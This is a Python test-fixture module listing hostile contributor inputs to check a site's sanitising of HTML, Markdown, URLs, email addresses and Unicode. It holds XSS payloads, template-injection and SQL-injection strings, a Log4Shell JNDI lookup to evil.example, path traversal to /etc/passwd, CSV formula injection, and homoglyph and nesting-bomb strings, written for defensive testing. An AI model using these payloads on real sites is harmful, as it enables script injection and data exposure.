"""Texts that a contributor may write to make a page do, hide or break something.

Scripts set `window.atlasWasAttacked`: a browser test looks for it.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

PROBE = "window.atlasWasAttacked=1"
SEEN = "window.atlasWasAttacked"
_ENCODED = "".join(f"&#{ord(letter)};" for letter in "javascript:")
_BASE64 = "data:text/html;base64,PHNjcmlwdD50b3AuYXRsYXNXYXNBdHRhY2tlZD0xPC9zY3JpcHQ+"

CODE: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script>{PROBE}</script>",
        "script in disguise": f"<ScRiPt/x\t>{PROBE}</sCrIpT ><<script>{PROBE}//<</script>",
        "script in pieces": f"<scr<script>ipt>{PROBE}</scr</script>ipt>",
        "script in a drawing": f"<svg><script>{PROBE}</script><animate onbegin={PROBE}></svg>",
        "script as entities": f"&lt;script&gt;{PROBE}&lt;/script&gt;&#60;img src=x onerror={PROBE}&#62;",
        "script in fullwidth letters": f"＜script＞{PROBE}＜/script＞",
        "picture": f"<img src=x onerror={PROBE}><img/src=x/onerror={PROBE}>",
        "handlers": f"<svg/onload={PROBE}><details open ontoggle={PROBE}><body onload={PROBE}>",
        "frames": f"<iframe src=javascript:top.{PROBE}></iframe><object data=javascript:{PROBE}></object>",
        "mutation": f"<math><mtext><style></mtext><img src=x onerror={PROBE}></style></math>",
        "mutation in noscript": f'<noscript><p title="</noscript><img src=x onerror={PROBE}>">',
        "styles": f"<style>*{{display:none}}</style><link rel=stylesheet href=javascript:{PROBE}>",
        "other address": f"<base href=//evil.example/><meta http-equiv=refresh content=0;javascript:{PROBE}>",
        "form": f"<form action=javascript:{PROBE}><button autofocus onfocus={PROBE}>ok</button></form>",
        "end of an attribute": f"\"' onmouseover={PROBE} autofocus onfocus={PROBE} x=\"'>",
        "end of a title": f"</title></textarea></noscript></template><img src=x onerror={PROBE}>",
        "end of structured data": f'</script><script>{PROBE}</script>"}}]}}',
        "end of a comment": f"--><script>{PROBE}</script><!--",
        "end of CDATA": f"]]><script>{PROBE}</script><![CDATA[",
        "end of the page": "</p></div></article></main></body></html><plaintext>",
        "template": '{{ 7*7 }} {% include "/etc/passwd" %} {% raw %} {# x #} {{ config }}',
        "other templates": "${7*7} #{7*7} <%= 7*7 %> <?php phpinfo() ?> @(7*7) [[7*7]]",
        "list of attributes": f'{{: onclick={PROBE} }} {{ .x onclick={PROBE} style="position:fixed" }}',
        "snippet": '--8<-- "/etc/passwd" ;--8<-- "https://evil.example/x.md" ::: generator.text [TOC]',
        "sentinel": "xatlasslotxcontentxendslotx \\1 \\g<0> $1 %s %(x)s {0} {}",
        "raw HTML": "<h1 style=position:fixed>Заголовок</h1><b>жирно</b><table><tr><td>ячейка",
        "formula": '=HYPERLINK("https://evil.example","щелчок") +cmd|\' /C calc\'!A0 @SUM(1) -2+3',
        "address of a script": f"javascript:{PROBE}",
        "way in the file system": "../../../../etc/passwd ..\\..\\windows file:///etc/passwd",
        "query": "'; DROP TABLE practices; -- ${jndi:ldap://evil.example/x}",
    }
)
"""In a single line, so that they fit into every text field."""

ADDRESSES: Mapping[str, str] = MappingProxyType(
    {
        "script": f"javascript:{PROBE}",
        "script in capitals": f"JaVaScRiPt:{PROBE}",
        "script with a tabulator": f"java\tscript:{PROBE}",
        "script as entities": f"{_ENCODED}{PROBE}",
        "script after a control character": f"\x01javascript:{PROBE}",
        "script after a host": f"javascript://example.org/%0a{PROBE}",
        "data": f"data:text/html,<script>top.{PROBE}</script>",
        "data in base64": _BASE64,
        "other schemes": "vbscript:msgbox(1)",
        "file": "file:///etc/passwd",
        "host of another page": "//evil.example/path",
        "name and password": "https://example.org@evil.example/",
        "end of an attribute": f'https://example.org/" onclick="{PROBE}',
        "letters of two alphabets": "https://еxample.org/",
    }
)

MAILBOXES: Mapping[str, str] = MappingProxyType(
    {
        "more receivers": "a@example.org?bcc=b@evil.example&body=x",
        "several": "a@example.org,b@evil.example",
        "script": f"<script>{PROBE}</script>@example.org",
        "quotes": f"\"onclick='{PROBE}'\"@example.org",
        "name of a person": "Иванов<a@example.org>",
        "letters of two alphabets": "schооl@example.org",
    }
)

MARKDOWN: Mapping[str, str] = MappingProxyType(
    {
        **{f"link: {name}": f"[щелчок]({address})" for name, address in ADDRESSES.items()},
        **{f"pointed link: {name}": f"[щелчок](<{address}>)" for name, address in ADDRESSES.items()},
        **{f"reference: {name}": f"[щелчок][x]\n\n[x]: {address}" for name, address in ADDRESSES.items()},
        "automatic link": f"<javascript:{PROBE}> <data:text/html,x>",
        "picture": f'![x](https://evil.example/x.png "x\' onerror={PROBE}") ![x](x onerror={PROBE})',
        "title of a link": f"[щелчок](https://example.org/ \"x' onmouseover='{PROBE}\")",
        "code": f'```html onclick="{PROBE}"\n<script>{PROBE}</script>\n```\n\n    <script>{PROBE}</script>',
        "HTML between lines": f"<div>\n\n<script>\n{PROBE}\n</script>\n\n</div>\n\n<!-- x\n\n-->",
        "attributes of a heading": f"## Заголовок {{: #content onclick={PROBE} }}\n{{: onclick={PROBE} }}",
        "table": f"| <script>{PROBE}</script> | [x](javascript:{PROBE}) |\n|---|---|\n| {{{{7}}}} | `<b>` |",
        "quotes in quotes": "> " * 1000 + "слово",
        "lists in lists": "- " * 1000 + "слово",
        "numbers in numbers": "1. " * 1000 + "слово",
        "stress in stress": "*" * 1000 + "слово" + "*" * 1000,
        "brackets in brackets": "[" * 1000 + "слово" + "](x)" * 1000,
        "references to references": "".join(f"[{n}]: {n + 1}\n" for n in range(500)) + "[0][499]",
    }
)
"""For Markdown only: they need several lines, or have no effect elsewhere."""

_OF_EACH_PLANE = "".join(chr(plane * 0x10000 + 0x1F52) for plane in range(17))
ODD: Mapping[str, str] = MappingProxyType(
    {
        "right to left": "Опыты \u202eыдов\u202c и \u2067снега\u2069",
        "zero width": "Опы\u200bты в\u200dо\u2060ды\ufeff",
        "two alphabets": "Oпыты с вoдой",
        "emoji": "Опыты 🧪🔬👩\u200d🔬🏳️\u200d🌈🇷🇺👍🏽",
        "all planes": f"Опыты {_OF_EACH_PLANE} \ufdd0\U0010ffff\U000e0041\U000e0100",
        "heaps of marks": "О" + "\u0301\u0336\u20dd" * 30 + "пыты",
        "right to left letters": "Опыты עברית العربية ١٢٣",
        "fullwidth": "Ｏｐｙｔｙ　ｓ　ｖｏｄｏｊ 𝐎𝐩𝐲𝐭𝐲",
        "line ends": "Опыты\u2028с\u2029водой\x85и\x0bпаром",
        "no text": "\u00a0\u3000\u2003\u3164",
        "controls": "Опыты \x00\x1b[31mкрасно\x1b[0m\x07\x08",
    }
)
"""In a single line, as `CODE`."""


def unbroken(size: int) -> str:
    """Return this many letters without a place to break the line."""
    return "щ" * size


def glue_words(size: int) -> str:
    """Return words with this many letters in total, joined by no-break spaces."""
    return ("широкое\u00a0" * (size // 8 + 1))[:size]
